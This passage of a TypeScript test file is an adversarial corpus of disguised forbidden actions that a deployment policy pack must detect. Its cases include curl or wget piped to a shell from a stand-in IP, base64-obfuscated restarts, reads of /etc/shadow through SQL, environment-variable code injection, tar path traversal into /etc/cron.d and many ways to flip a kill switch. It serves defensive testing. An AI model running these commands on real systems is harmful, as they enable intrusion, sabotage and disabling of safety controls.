/**
 * Adversarial corpus, forbidden side: every case is an action O6/O7 forbid
 * (production mutation, live CUT/VERIFY/enact, Mode.LIVE, the kill switch,
 * a service restart or container recreate, git push or a remote, real
 * crypto, a hardcoded secret, a force flag, a write outside the roots, code
 * the pack cannot read, a guard that writes), disguised the way an attacker
 * would. The pack must report at least one violation for each resource.
 *
 * Where a resource needs a write to be allowed at all, `writes` declares it
 * correctly, so that the disguised action is what must be caught.
 */
import {
    Case, Cls, commandLocal, commandRemote, copyToRemote, dockerContainer, dynamicResource, FAKE, HOST_KEY, hostCommand,
    localCommand, makeTar, OTHER_PROVIDER, otherDynamic, P, pem, PSQL_RO, randomString, Resource, roSql, tempFile, tempTree,
} from "./shapes";
import { pinnedHelper, pinnedTreeDigest } from "./shapes";
import { TRUSTED_PROVIDER } from "../helpers/trusted";

const out: Case[] = [];
function ev(id: string, cls: Cls, resource: Resource, note?: string): void {
    out.push(note ? { id, cls, resource, note } : { id, cls, resource });
}

const RESTART = "systemctl restart iu-cutter";
const B64_RESTART = Buffer.from(`${RESTART}\n`).toString("base64");
const STAGE_X = `tar -x --no-same-owner --no-same-permissions -f - -C ${P.stageTree}`;
const STAGE_W = [P.staging];
const DOT_GIT = `${P.dot}/.git`;
const DOT_W = [P.target, DOT_GIT];
const PW_VAR = ["DB", "PASSWORD"].join("_");

/** The pinned tree-digest helper of lib/scripts/o6.ts with one line added. */
const TREE_DIGEST_PLUS = [
    "import hashlib, os, stat, sys",
    "root = sys.argv[1]",
    "rows = []",
    "for dirpath, dirnames, filenames in os.walk(root):",
    "    for name in filenames:",
    "        full = os.path.join(dirpath, name)",
    "        rows.append(os.path.relpath(full, root))",
    "os.system(\"systemctl restart iu-cutter\")",
    "print(len(rows))",
].join("\n");

// ---------------------------------------------------------------- impersonation

ev("impersonation/other-provider-under-trusted-type", "impersonation", otherDynamic("hostname"),
    "trusted type name, harmless create, but __provider is other code (it restarts the service)");
ev("impersonation/trusted-provider-plus-appended-line", "impersonation",
    hostCommand("hostname", { provider: `${TRUSTED_PROVIDER}\n;require("child_process").execSync("reboot");\n` }));
ev("impersonation/trusted-provider-with-leading-space", "impersonation",
    hostCommand("hostname", { provider: ` ${TRUSTED_PROVIDER}` }), "one byte of difference: the sha256 differs, the code is not the pinned code");
ev("impersonation/trusted-provider-truncated", "impersonation",
    hostCommand("hostname", { provider: TRUSTED_PROVIDER.slice(0, Math.max(1, TRUSTED_PROVIDER.length - 1)) }));
ev("impersonation/empty-provider", "impersonation", hostCommand("hostname", { provider: "" }));
{
    const r = hostCommand("hostname");
    delete r.props.__provider;
    ev("impersonation/no-provider-property", "impersonation", r, "no serialized provider at all: the code that runs is unknown");
}
ev("impersonation/local-command-other-provider", "impersonation", localCommand("git rev-parse HEAD", { provider: OTHER_PROVIDER }));
ev("impersonation/local-command-with-connection", "impersonation",
    localCommand("hostname", { connection: { address: "203.0.113.7", port: 22, user: "root", hostKey: HOST_KEY, privateKeyPath: "/root/.ssh/id_ed25519" } }),
    "the trusted provider sshes when a connection is present: a 'local' command that runs on the production host");
ev("impersonation/remote-command-without-connection", "impersonation", hostCommand("hostname", { connection: null }),
    "a RemoteCommand with no connection runs on the operator's machine");
ev("impersonation/remote-command-kind-local", "impersonation", hostCommand("hostname", { kind: "LocalCommand", connection: null }));
ev("impersonation/secret-create", "impersonation", hostCommand(RESTART, { secretPaths: ["create"] }),
    "create arrives marked secret: a reviewer cannot read it");
ev("impersonation/secret-delete", "impersonation", hostCommand("hostname", { delete: "reboot", secretPaths: ["delete"] }));
ev("impersonation/command-remote-secret-create", "impersonation", commandRemote(RESTART, { secretPaths: ["create"] }));
ev("impersonation/command-remote-secret-stdin", "impersonation",
    commandRemote("bash -s", { stdin: `${RESTART}\n`, secretPaths: ["stdin"] }));
ev("impersonation/docker-container", "impersonation", dockerContainer(), "unknown type: docker runs a container with the agent mounted");
ev("impersonation/docker-container-privileged", "impersonation",
    dockerContainer({ name: "x", image: "alpine:3", privileged: true, command: ["chroot", "/host", "reboot"], volumes: [{ hostPath: "/", containerPath: "/host" }] }));
ev("impersonation/generic-dynamic-resource-trusted-code", "impersonation",
    dynamicResource({ create: "hostname", connection: { address: "203.0.113.7" } }, TRUSTED_PROVIDER),
    "the pinned code under a type name the pack does not accept");
ev("impersonation/generic-dynamic-resource", "impersonation", dynamicResource({ command: RESTART }));
ev("impersonation/lookalike-dynamic-type", "impersonation",
    dynamicResource({ create: "hostname" }, TRUSTED_PROVIDER, "pulumi-nodejs:dynamic/host:RemoteCommandV2"));
ev("impersonation/lookalike-command-type", "impersonation",
    { type: "command:remote:Commands", props: { create: RESTART, connection: { host: "203.0.113.7" } } });
ev("impersonation/random-string", "impersonation", randomString(),
    "an unknown provider plugin: its code is not reviewed (refused by type, whatever it does)");
ev("impersonation/stdin-file-missing-at-preview", "impersonation",
    hostCommand(STAGE_X, { writes: STAGE_W, stdinFile: "/tmp/iucutter-not-there-at-preview/release.tar" }),
    "the archive is produced after preview: its content is unknown when the pack reads it");

// ---------------------------------------------------------------- unread code

ev("unread/bash-s-stdin-file", "unread-code", hostCommand("bash -s", { stdinFile: tempFile("payload.sh", `${RESTART}\n`) }));
ev("unread/sh-s-heredoc", "unread-code", hostCommand(`sh -s <<'EOF'\n${RESTART}\nEOF`));
ev("unread/bash-heredoc-unquoted", "unread-code", hostCommand(`bash <<EOF\necho "$(hostname)"\n${RESTART}\nEOF`));
ev("unread/python-stdin-harmless-looking", "unread-code", hostCommand("python3 - <<'PY'\nprint(\"hello\")\nPY"),
    "unpinned heredoc code: harmless today, but not a pinned helper");
ev("unread/python-stdin-listdir", "unread-code",
    hostCommand("python3 - /var/lib/cutter <<'PY'\nimport os, sys\nfor n in sorted(os.listdir(sys.argv[1])):\n    print(n)\nPY"));
ev("unread/python-stdin-pinned-helper-plus-line", "unread-code",
    hostCommand(`python3 - ${P.target} <<'PY'\n${TREE_DIGEST_PLUS}\nPY`), "looks like the tree-digest helper; one added line restarts the service");
ev("unread/python-stdin-unquoted-delimiter", "unread-code",
    hostCommand("CMD=reboot\npython3 - <<PY\nimport os\nos.system(\"$CMD\")\nPY"));
ev("unread/python-c", "unread-code", hostCommand("python3 -c 'import os; os.system(\"systemctl restart iu-cutter\")'"));
ev("unread/python-file-unpinned", "unread-code", hostCommand("python3 /var/lib/cutter/state/helper.py --check"));
ev("unread/python-m-other-module", "unread-code", hostCommand("python3 -m pip install --user --upgrade cutter-agent-hotfix"));
ev("unread/pythonpath-shadow-agent", "unread-code",
    hostCommand(`cd ${P.target} && PYTHONPATH=/var/lib/cutter/state python3 -m cutter_agent.cli orchestrate --mode dryrun --run-id x --document 2 --config ${P.ini}`,
        { writes: [P.stateDir] }), "PYTHONPATH makes a cutter_agent package written elsewhere the one that runs");
ev("unread/psql-f-stdin-file", "unread-code",
    hostCommand(`${PSQL_RO} -f -`, { stdinFile: tempFile("migration.sql", "DELETE FROM cutter.documents;\n") }));
ev("unread/source-written-file", "unread-code",
    hostCommand(`printf '%s\\n' '${RESTART}' > /var/lib/cutter/state/next.sh\nsource /var/lib/cutter/state/next.sh`, { writes: [P.stateDir] }));
ev("unread/dot-written-file", "unread-code",
    hostCommand(`cat > /var/lib/cutter/state/env.sh <<'EOF'\nreboot\nEOF\n. /var/lib/cutter/state/env.sh`, { writes: [P.stateDir] }));
ev("unread/xargs-restart", "unread-code", hostCommand("echo iu-cutter | xargs systemctl restart"));
ev("unread/xargs-rm", "unread-code", hostCommand("ls /var/lib/cutter/state | xargs -n1 rm --", { writes: [P.stateDir] }));
ev("unread/find-exec-rm", "unread-code",
    hostCommand("find /var/lib/cutter/state -name '*.json' -exec rm -- {} \\;", { writes: [P.stateDir] }));
ev("unread/find-execdir-sh", "unread-code", hostCommand("find /var/lib/cutter -maxdepth 0 -execdir sh -c 'systemctl restart iu-cutter' \\;"));
ev("unread/find-ok", "unread-code", hostCommand("find /var/lib/cutter -maxdepth 0 -ok reboot \\; < /dev/null"));
ev("unread/perl-e", "unread-code", hostCommand("perl -e 'system(\"systemctl\", \"restart\", \"iu-cutter\")'"));
ev("unread/awk-begin-system", "unread-code", hostCommand("awk 'BEGIN{system(\"systemctl restart iu-cutter\")}'"));
ev("unread/awk-pipe-to-sh", "unread-code", hostCommand("awk 'BEGIN{print \"reboot\" | \"sh\"}'"));
ev("unread/at-now", "unread-code", hostCommand(`echo '${RESTART}' | at now + 1 minute`));
ev("unread/crontab-stdin", "unread-code", hostCommand(`printf '%s\\n' '* * * * * ${RESTART}' | crontab -`));
ev("unread/systemd-run", "unread-code", hostCommand(`systemd-run --on-active=60 --unit=cutter-later ${RESTART}`));
ev("unread/busctl-restart-unit", "unread-code",
    hostCommand("busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager RestartUnit ss iu-cutter.service replace"));
ev("unread/dbus-send-restart-unit", "unread-code",
    hostCommand("dbus-send --system --print-reply --dest=org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager.RestartUnit string:iu-cutter.service string:replace"));
ev("unread/busybox-sh", "unread-code", hostCommand("busybox sh -c 'reboot'"));
ev("unread/nsenter-pid1", "unread-code", hostCommand(`nsenter -t 1 -m -u -i -n -p -- ${RESTART}`));
ev("unread/env-cmd", "unread-code", hostCommand(`env ${RESTART}`));
ev("unread/env-i-cmd", "unread-code", hostCommand("env -i /usr/bin/systemctl restart iu-cutter"));
ev("unread/env-split-string", "unread-code", hostCommand(`env -S '${RESTART}'`));
ev("unread/env-split-string-long", "unread-code", hostCommand("env --split-string='sh -c reboot'"));
ev("unread/sudo-psql-superuser", "unread-code", hostCommand("sudo -u postgres psql -d incomex -c 'DROP TABLE cutter.documents'"));
ev("unread/nohup-sh", "unread-code", hostCommand(`nohup sh -c 'sleep 60; ${RESTART}' > /dev/null 2>&1`));
ev("unread/timeout-compose-up", "unread-code", hostCommand(`timeout -s KILL 30 docker compose -f ${P.compose} up -d`));
ev("unread/flock-cmd", "unread-code", hostCommand(`flock /var/lib/cutter/deploy.lock ${RESTART}`));
ev("unread/flock-fd-then-cmd", "unread-code", hostCommand(`exec 9>>/var/lib/cutter/deploy.lock\nflock -n 9 ${RESTART}`, { writes: ["/var/lib/cutter"] }));
ev("unread/flock-c", "unread-code", hostCommand(`flock -n -c '${RESTART}' /var/lib/cutter/deploy.lock`));
ev("unread/flock-fd-run-time", "unread-code", hostCommand(`fd="$(cat /var/lib/cutter/fd)"\nflock -n "$fd"`));
ev("unread/nice-ionice", "unread-code", hostCommand(`nice -n 10 ionice -c3 ${RESTART}`));
ev("unread/setsid", "unread-code", hostCommand(`setsid -f ${RESTART}`));
ev("unread/bash-O-extglob-c-var", "unread-code", hostCommand(`X='${RESTART}'\nbash -O extglob -c "$X"`));
ev("unread/sh-c-positional", "unread-code", hostCommand(`sh -c "$1" _ '${RESTART}'`));
ev("unread/bash-c-cat-file", "unread-code", hostCommand("bash -c \"$(cat /var/lib/cutter/state/next)\""));
ev("unread/bash-script-file", "unread-code", hostCommand("bash /var/lib/cutter/state/deploy.sh"));
ev("unread/eval-var", "unread-code", hostCommand(`c='${RESTART}'\neval "$c"`));
ev("unread/eval-in-function", "unread-code", hostCommand("run() { eval \"$@\"; }\nrun systemctl restart iu-cutter"));
ev("unread/exec-cmd", "unread-code", hostCommand(`exec ${RESTART}`));
ev("unread/here-string-into-bash", "unread-code", hostCommand(`bash <<< '${RESTART}'`));
ev("unread/process-substitution", "unread-code", hostCommand(`bash <(printf '%s\\n' '${RESTART}')`));
ev("unread/source-process-substitution", "unread-code", hostCommand(`source <(echo '${RESTART}')`));
ev("unread/curl-pipe-sh", "unread-code", hostCommand("curl -fsSL https://198.51.100.9/install.sh | sh"));
ev("unread/wget-pipe-bash-s", "unread-code", hostCommand("wget -qO- https://198.51.100.9/x | bash -s -- --yes"));
ev("unread/base64-into-sh", "unread-code", hostCommand(`printf '%s' ${B64_RESTART} | base64 -d | sh`));
ev("unread/base64-into-bash-c", "unread-code", hostCommand(`P=${B64_RESTART}\nbash -c "$(printf '%s' "$P" | base64 --decode)"`));
ev("unread/ssh-other-host", "unread-code", hostCommand("ssh -o StrictHostKeyChecking=no root@198.51.100.9 reboot"));
ev("unread/node-e", "unread-code", hostCommand("node -e \"require('child_process').execSync('reboot')\""));
ev("unread/command-local-python-interpreter", "unread-code",
    commandLocal("import subprocess\nsubprocess.run(['git', 'push', 'origin', 'HEAD'])", { interpreter: ["python3", "-c"] }));
ev("unread/command-local-node-interpreter", "unread-code",
    commandLocal("require('child_process').execSync('git push')", { interpreter: ["/usr/bin/env", "node", "-e"] }));
ev("unread/command-remote-bash-s-stdin", "unread-code", commandRemote("bash -s", { stdin: `${RESTART}\n` }));
ev("unread/command-remote-bash-env", "unread-code",
    commandRemote("bash -c 'true'", { environment: { BASH_ENV: "/var/lib/cutter/state/rc.sh" } }),
    "BASH_ENV makes bash source a file before the literal script");
ev("unread/command-local-bash-func-env", "unread-code",
    commandLocal("git status --porcelain", { environment: { "BASH_FUNC_git%%": "() { command git push origin HEAD; }" } }),
    "bash imports a function named git from the environment: the literal git status would push");
ev("unread/command-remote-bash-func-env", "unread-code",
    commandRemote("systemctl status iu-cutter", { environment: { "BASH_FUNC_systemctl%%": "() { command systemctl restart iu-cutter; }" } }));
ev("unread/command-local-home-gitconfig", "unread-code",
    commandLocal("git status --porcelain", { environment: { HOME: "/var/lib/cutter/state" } }),
    "git reads $HOME/.gitconfig: a planted core.fsmonitor runs a command on status");
ev("unread/command-local-xdg-config-home", "unread-code",
    commandLocal("git log -1", { environment: { XDG_CONFIG_HOME: "/var/lib/cutter/state" } }),
    "git reads $XDG_CONFIG_HOME/git/config");
ev("unread/command-local-gconv-path", "unread-code",
    commandLocal("iconv -l", { environment: { GCONV_PATH: "/var/lib/cutter/state" } }),
    "glibc loads gconv modules (shared objects) from GCONV_PATH");
ev("unread/command-remote-node-options", "unread-code",
    commandRemote("node --version", { environment: { NODE_OPTIONS: "--require /var/lib/cutter/state/x.js" } }));
ev("unread/command-local-perl5opt", "unread-code",
    commandLocal("uptime", { environment: { PERL5OPT: "-Mwarnings;system('git push')" } }));
ev("unread/command-remote-glibc-tunables-env", "unread-code",
    commandRemote("uptime", { environment: { GLIBC_TUNABLES: "glibc.rtld.nns=1" } }));
// The stdin secret is the one input the pack cannot read: a program that takes code, SQL or an archive from stdin must not get it.
const CODE = "git -C /opt/incomex/dot push origin HEAD\n";
ev("unread/stdin-secret-sh", "unread-code", hostCommand("sh", { stdinSecret: CODE }));
ev("unread/stdin-secret-bash", "unread-code", hostCommand("bash", { stdinSecret: CODE }));
ev("unread/stdin-secret-dash-s", "unread-code", hostCommand("dash -s", { stdinSecret: CODE }));
ev("unread/stdin-secret-bash-dev-stdin", "unread-code", hostCommand("bash /dev/stdin", { stdinSecret: CODE }));
ev("unread/stdin-secret-sh-proc-fd", "unread-code", hostCommand("sh /proc/self/fd/0", { stdinSecret: CODE }));
ev("unread/stdin-secret-python3", "unread-code", hostCommand("python3", { stdinSecret: "import os; os.system('reboot')\n" }));
ev("unread/stdin-secret-python3-dash", "unread-code", hostCommand("python3 -", { stdinSecret: "import os; os.system('reboot')\n" }));
ev("unread/stdin-secret-python3-dev-stdin", "unread-code", hostCommand("python3 /dev/stdin", { stdinSecret: "import os; os.system('reboot')\n" }));
ev("sql/stdin-secret-psql", "sql", hostCommand(`${PSQL_RO}`, { stdinSecret: "UPDATE pack SET state = 'cut';\n" }));
ev("unread/stdin-secret-tar", "unread-code",
    hostCommand(`tar -x --no-same-owner --no-same-permissions -f - -C ${P.stageTree}`, { writes: STAGE_W, stdinSecret: "(an archive)" }));
ev("unread/stdin-secret-xargs", "unread-code", hostCommand("xargs rm --", { writes: [P.stateDir], stdinSecret: `${P.stateDir}/x\n` }));
ev("unread/stdin-secret-cat-into-bash-c", "unread-code", hostCommand(`bash -c "$(cat)"`, { stdinSecret: CODE }));
ev("unread/stdin-secret-read-then-bash-c", "unread-code", hostCommand(`IFS= read -r X\nbash -c "$X"`, { stdinSecret: CODE }));
ev("unread/stdin-secret-sed-f", "unread-code", hostCommand(`sed -f - ${P.ini}`, { stdinSecret: "1e reboot\n" }));
ev("unread/stdin-secret-awk-f", "unread-code", hostCommand(`awk -f - ${P.ini}`, { stdinSecret: "BEGIN { system(\"reboot\") }\n" }));
ev("unread/stdin-secret-git-apply", "unread-code", hostCommand(`git -C ${P.dot} apply`, { writes: [P.target, DOT_GIT], stdinSecret: "(a patch)" }));
ev("unread/stdin-secret-cp-dev-stdin", "unread-code", hostCommand(`cp /dev/stdin ${P.runPy}`, { writes: [P.target], stdinSecret: "execution_enabled = True\n" }));
ev("unread/stdin-secret-tee", "unread-code", hostCommand(`tee ${P.runPy}`, { writes: [P.target], stdinSecret: "execution_enabled = True\n" }));
ev("kill/stdin-secret-cat-into-ini", "kill-switch", hostCommand(`cat > ${P.ini}`, { writes: [P.ini], stdinSecret: "[orchestrator]\nexecution_enabled = true\n" }));
ev("kill/stdin-secret-read-printf-into-ini", "kill-switch",
    hostCommand(`IFS= read -r LINE\nprintf '%s\\n' "$LINE" > ${P.ini}`, { writes: [P.ini], stdinSecret: "execution_enabled = true\n" }));
ev("kill/stdin-secret-head-into-ini", "kill-switch", hostCommand(`head -c 4096 > ${P.ini}`, { writes: [P.ini], stdinSecret: "execution_enabled = true\n" }));
ev("kill/stdin-secret-read-no-key", "kill-switch",
    hostCommand(`IFS= read -r L\nprintf 'x%s\\n' "$L" > ${P.ini}`, { writes: [P.ini], stdinSecret: "\nexecution_enabled = true" }));
ev("kill/stdin-secret-read-as-switch-value", "kill-switch",
    hostCommand(`IFS= read -r L\nprintf 'execution_enabled=%s\\n' "$L" > ${P.ini}`, { writes: [P.ini], stdinSecret: "true\n" }));
ev("kill/stdin-secret-read-mid-line", "kill-switch",
    hostCommand(`IFS= read -r L\nprintf 'k=%s # x\\n' "$L" > ${P.ini}`, { writes: [P.ini], stdinSecret: "1\n" }));
ev("kill/stdin-secret-read-two-on-a-line", "kill-switch",
    hostCommand(`IFS= read -r A\nIFS= read -r B\nprintf 'k=%s%s\\n' "$A" "$B" > ${P.ini}`, { writes: [P.ini], stdinSecret: "1\n2\n" }));
ev("kill/stdin-secret-cat-pipe-tee", "kill-switch", hostCommand(`cat | tee ${P.ini}`, { writes: [P.ini], stdinSecret: "execution_enabled = true\n" }));
ev("kill/stdin-secret-group-cat", "kill-switch", hostCommand(`{ echo '[orchestrator]'; cat; } > ${P.ini}`, { writes: [P.ini], stdinSecret: "execution_enabled = true\n" }));
ev("kill/stdin-secret-subshell-head", "kill-switch", hostCommand(`( head -n 5 ) > ${P.ini}`, { writes: [P.ini], stdinSecret: "execution_enabled = true\n" }));
ev("kill/stdin-secret-sed-no-file", "kill-switch", hostCommand(`sed 's/^#//' > ${P.ini}`, { writes: [P.ini], stdinSecret: "#execution_enabled = true\n" }));
ev("kill/stdin-secret-cat-dev-stdin", "kill-switch", hostCommand(`cat /dev/stdin > ${P.ini}`, { writes: [P.ini], stdinSecret: "execution_enabled = true\n" }));
ev("kill/stdin-secret-cat-proc-fd", "kill-switch", hostCommand(`cat /proc/self/fd/0 > ${P.ini}`, { writes: [P.ini], stdinSecret: "execution_enabled = true\n" }));
ev("kill/stdin-secret-tr", "kill-switch", hostCommand(`tr 'a' 'a' > ${P.ini}`, { writes: [P.ini], stdinSecret: "execution_enabled = true\n" }));
ev("kill/stdin-secret-if-cat", "kill-switch", hostCommand(`if true; then cat; fi > ${P.ini}`, { writes: [P.ini], stdinSecret: "execution_enabled = true\n" }));
ev("kill/if-echo-into-ini", "kill-switch", hostCommand(`if true; then echo 'execution_enabled = true'; fi > ${P.ini}`, { writes: [P.ini] }));
ev("kill/for-printf-into-ini", "kill-switch", hostCommand(`for k in execution_enabled; do printf '%s = true\\n' "$k"; done > ${P.ini}`, { writes: [P.ini] }));
ev("kill/case-echo-into-ini", "kill-switch", hostCommand(`case x in x) echo 'execution_enabled = 1';; esac > ${P.ini}`, { writes: [P.ini] }));
ev("kill/while-once-into-ini", "kill-switch",
    hostCommand(`while true; do echo 'execution_enabled = yes'; break; done > ${P.ini}`, { writes: [P.ini] }));
ev("kill/elif-echo-into-ini", "kill-switch",
    hostCommand(`if false; then echo a; elif true; then echo 'execution_enabled = on'; fi > ${P.ini}`, { writes: [P.ini] }));
ev("kill/function-output-into-ini", "kill-switch",
    hostCommand(`w() { echo 'execution_enabled = true'; }\nw > ${P.ini}`, { writes: [P.ini] }));
ev("kill/function-cat-secret-into-ini", "kill-switch",
    hostCommand(`w() { cat; }\nw > ${P.ini}`, { writes: [P.ini], stdinSecret: "execution_enabled = true\n" }));
ev("kill/exec-redirect-then-echo", "kill-switch",
    hostCommand(`exec > ${P.ini}\necho '[orchestrator]'\necho 'execution_enabled = true'`, { writes: [P.ini] }));
ev("kill/read-from-heredoc-then-printf", "kill-switch",
    hostCommand(`IFS= read -r L <<'EOF'\nexecution_enabled = true\nEOF\nprintf '%s\\n' "$L" > ${P.ini}`, { writes: [P.ini] }));
ev("kill/read-from-herestring-then-echo", "kill-switch",
    hostCommand(`read -r L <<< 'execution_enabled = true'\necho "$L" > ${P.ini}`, { writes: [P.ini] }));
ev("kill/while-read-heredoc-into-ini", "kill-switch",
    hostCommand(`while IFS= read -r L; do echo "$L"; done <<'EOF' > ${P.ini}\nexecution_enabled = true\nEOF`, { writes: [P.ini] }));
ev("kill/exec-fd3-then-dup", "kill-switch",
    hostCommand(`exec 3>${P.ini}\necho 'execution_enabled = true' >&3`, { writes: [P.ini] }));
ev("kill/exec-append-via-variable", "kill-switch",
    hostCommand(`F=${P.ini}\nexec >>"$F"\necho 'execution_enabled = true'`, { writes: [P.ini] }));
ev("kill/nested-function-output", "kill-switch",
    hostCommand(`a() { echo 'execution_enabled = true'; }\nb() { a; }\nb > ${P.ini}`, { writes: [P.ini] }));
ev("kill/function-arg-output", "kill-switch",
    hostCommand(`w() { echo "$1 = true"; }\nw execution_enabled > ${P.ini}`, { writes: [P.ini] }));
// Host text (the release's own files mention the switch) rewritten into the config.
const CFG_PY = `${P.target}/cutter_agent/config.py`;
ev("kill/host-sed-rewrite-into-ini", "kill-switch", hostCommand(`sed 's/False/True/' ${CFG_PY} > ${P.ini}`, { writes: [P.ini] }));
ev("kill/host-grep-sed-pipe-into-ini", "kill-switch",
    hostCommand(`grep -h 'execution_enabled' ${CFG_PY} | sed 's/False/True/' > ${P.ini}`, { writes: [P.ini] }));
ev("kill/host-tr-into-ini", "kill-switch", hostCommand(`tr 'F' 'T' < ${CFG_PY} > ${P.ini}`, { writes: [P.ini] }));
ev("kill/host-key-hole-then-true", "kill-switch",
    hostCommand(`printf '%s = True\\n' "$(grep -o 'execution_[a-z]*' ${CFG_PY} | head -n 1)" > ${P.ini}`, { writes: [P.ini] }));
ev("kill/host-git-show-old-config-into-ini", "kill-switch",
    hostCommand(`git -C ${P.dot} show HEAD~3:iu-cutter/orchestrator.ini > ${P.ini}`, { writes: [P.ini] }));
ev("kill/host-cat-file-into-ini", "kill-switch", hostCommand(`cat ${P.stateDir}/staged.ini > ${P.ini}`, { writes: [P.ini] }));
ev("kill/host-sed-into-tee", "kill-switch", hostCommand(`sed 's/False/True/' ${CFG_PY} | tee ${P.ini}`, { writes: [P.ini] }));
// A pinned helper writes its own format into its output files, with some of its arguments in it (assert_release.py's
// cache key line): an argument with a line break or the switch's name would write a line of the attacker's choosing.
const ASSERT_PY = pinnedHelper("assert_release.py");
ev("kill/helper-cache-key-newline", "kill-switch",
    hostCommand(`python3 - ${P.target} 0.6.0 --cache ${P.ini} $'k\\nexecution_enabled = true' <<'PY'\n${ASSERT_PY}PY`, { writes: [P.ini] }));
ev("kill/helper-cache-key-switch", "kill-switch",
    hostCommand(`python3 - ${P.target} 0.6.0 --cache ${P.ini} 'execution_enabled = true' <<'PY'\n${ASSERT_PY}PY`, { writes: [P.ini] }));
ev("kill/helper-cache-key-from-stdin", "kill-switch",
    hostCommand(`IFS= read -r K\npython3 - ${P.target} 0.6.0 --cache ${P.ini} "$K" <<'PY'\n${ASSERT_PY}PY`, { writes: [P.ini], stdinSecret: "x\n" }));
ev("kill/helper-cache-key-via-function", "kill-switch",
    hostCommand(`a() { python3 - ${P.target} 0.6.0 --cache ${P.ini} "$1" <<'PY'\n${ASSERT_PY}PY\n}\na $'k\\nexecution_enabled = 1'`, { writes: [P.ini] }));
// Round 3 (session 12): read-only programs with a writing or running option, and less common restart and SQL forms.
ev("writes/git-log-output-file", "writes", hostCommand(`git -C ${P.dot} log -p --output=${P.ini}`));
ev("writes/git-show-output-file", "writes", hostCommand(`git -C ${P.dot} show --output ${P.ini} HEAD`));
ev("unread/git-grep-open-in-pager", "unread-code", hostCommand(`git -C ${P.dot} grep -O'sh -c reboot' x`));
ev("unread/git-grep-open-files-in-pager", "unread-code", hostCommand(`git -C ${P.dot} grep --open-files-in-pager=reboot x`));
ev("writes/git-fsck-lost-found", "writes", hostCommand(`git -C ${P.dot} fsck --lost-found`));
ev("unread/git-help-web", "unread-code", hostCommand("git help --web log"));
ev("writes/uniq-output-operand", "writes", hostCommand(`uniq ${P.stateDir}/a ${P.ini}`));
ev("restart/ss-kill-sockets", "restart", hostCommand("ss -K dst 127.0.0.1 dport = :5432"));
ev("restart/systemctl-kill", "restart", hostCommand("systemctl kill iu-cutter"));
ev("restart/systemctl-no-block-try-restart", "restart", hostCommand("systemctl --no-block try-restart iu-cutter"));
ev("restart/systemctl-daemon-reexec", "restart", hostCommand("systemctl daemon-reexec"));
ev("restart/docker-kill-hup", "restart", hostCommand("docker kill -s HUP iu-cutter"));
ev("restart/pkill-hup", "restart", hostCommand("pkill -HUP -f cutter_agent"));
ev("restart/kill-1", "restart", hostCommand("kill -1 1234"));
ev("restart/killall", "restart", hostCommand("killall -HUP python3"));
ev("restart/telinit-6", "restart", hostCommand("telinit 6"));
ev("sql/nextval", "sql", hostCommand(roSql("SELECT nextval('cutter.cuts_id_seq');")));
ev("sql/setval", "sql", hostCommand(roSql("SELECT setval('cutter.cuts_id_seq', 1);")));
ev("sql/pg-notify", "sql", hostCommand(roSql("SELECT pg_notify('cutter', 'go');")));
ev("sql/pg-terminate-backend", "sql", hostCommand(roSql("SELECT pg_terminate_backend(pid) FROM pg_stat_activity;")));
ev("sql/set-config-read-write", "sql", hostCommand(roSql("SELECT set_config('transaction_read_only', 'off', true);")));
ev("sql/advisory-lock", "sql", hostCommand(roSql("SELECT pg_advisory_lock(42);")));
ev("sql/lo-import", "sql", hostCommand(roSql("SELECT lo_import('/etc/passwd');")));
ev("sql/pg-reload-conf", "sql", hostCommand(roSql("SELECT pg_reload_conf();")));
ev("sql/pg-read-file", "sql", hostCommand(roSql("SELECT pg_read_file('/etc/shadow');")));
ev("unread/dev-tcp-read", "unread-code", hostCommand("cat < /dev/tcp/198.51.100.9/80"));
ev("writes/date-long-set", "writes", hostCommand("date --set='2001-01-01 00:00'"));
ev("writes/hostname-from-file", "writes", hostCommand(`hostname -F ${P.stateDir}/name`));
ev("writes/hostname-long-file", "writes", hostCommand(`hostname --file=${P.stateDir}/name`));
ev("writes/journalctl-setup-keys", "writes", hostCommand("journalctl --setup-keys"));
ev("writes/journalctl-update-catalog", "writes", hostCommand("journalctl --update-catalog"));
ev("writes/ss-diag-file", "writes", hostCommand(`ss -D ${P.ini}`));
ev("writes/ss-long-diag-file", "writes", hostCommand(`ss --diag=${P.ini}`));
ev("unread/sort-compress-program", "unread-code", hostCommand(`sort --compress-program=reboot ${P.stateDir}/big`));
ev("writes/sort-temp-dir", "writes", hostCommand(`sort -T /etc ${P.stateDir}/big`));
ev("writes/file-compile-magic", "writes", hostCommand(`cd /etc && file -C -m ${P.stateDir}/magic`));
ev("crypto/gpg-list-then-delete", "crypto", hostCommand("gpg --batch --yes --list-keys --delete-keys ABCDEF"));
ev("sql/set-transaction-read-write", "sql", hostCommand(roSql("SET TRANSACTION READ WRITE;\nUPDATE cutter.cuts SET state = 'x';")));
ev("sql/commit-and-chain", "sql", hostCommand(roSql("COMMIT AND CHAIN;\nSELECT 1;")));
ev("sql/do-block", "sql", hostCommand(roSql("DO $$ BEGIN PERFORM 1; END $$;")));
ev("sql/call-procedure", "sql", hostCommand(roSql("CALL cutter.enact(2);")));
ev("sql/execute-prepared-update", "sql", hostCommand(roSql("EXECUTE cut_it(2);")));
ev("sql/listen", "sql", hostCommand(roSql("LISTEN cutter;")));
ev("sql/dbname-with-options", "sql",
    hostCommand("psql -X -q -A -t -v ON_ERROR_STOP=1 -h 127.0.0.1 -p 5432 -U context_pack_readonly -d 'dbname=incomex options=-cdefault_transaction_read_only=off' <<'SQL'\nBEGIN READ ONLY;\nSELECT 1;\nROLLBACK;\nSQL"));
ev("sql/backslash-semicolon-chain", "sql", hostCommand(roSql("SELECT 1 \\; UPDATE cutter.cuts SET state = 'x';")));
ev("sql/psql-variable-into-statement", "sql", hostCommand(roSql("\\set q 'UPDATE cutter.cuts SET state = 1'\n:q;")));
ev("sql/copy-to-stdout-program", "sql", hostCommand(roSql("COPY (SELECT 1) TO PROGRAM 'reboot';")));
ev("writes/tar-member-dotdot", "writes",
    hostCommand(STAGE_X, { writes: STAGE_W, stdinFile: makeTar([{ name: "cutter_agent/x.py", content: "x = 1\n" }], { transform: "s,^cutter_agent/x.py,../../../../etc/cron.d/iucutter," }) }));
ev("writes/tar-member-absolute", "writes",
    hostCommand(STAGE_X, { writes: STAGE_W, stdinFile: makeTar([{ name: "cutter_agent/x.py", content: "x = 1\n" }], { transform: "s,^cutter_agent/x.py,/etc/cron.d/iucutter," }) }));
ev("kill/agent-config-outside-roots", "kill-switch",
